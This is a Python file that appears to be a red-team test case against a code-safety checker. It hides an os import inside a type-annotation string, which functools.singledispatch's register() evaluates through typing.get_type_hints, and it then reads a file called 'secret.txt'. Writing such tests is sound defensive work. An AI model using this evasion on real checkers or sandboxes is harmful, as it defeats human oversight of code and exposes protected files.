# family: red team, round 9 (register_decorated_class_is_function)
# .register(K) is judged harmless when K is bound by a class statement; a class decorator of the tool can
# return anything, here a function whose annotation is a name bound to a run-time string. register() then
# runs typing.get_type_hints on it, which eval()s the string in the tool's globals.
import functools

SINK = []


def _d(word):
    u = "_"
    return u + u + word + u + u


CODE = "[SINK.append(" + _d("import") + "('os')), int][1]"


def target(value: CODE) -> None:
    return None


def swap(cls):
    return target


@swap
class Handler:
    pass


@functools.singledispatch
def dispatch(value):
    return value


def run():
    dispatch.register(Handler)
    osmod = SINK[0]
    fd = osmod.open("/tmp/r9/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
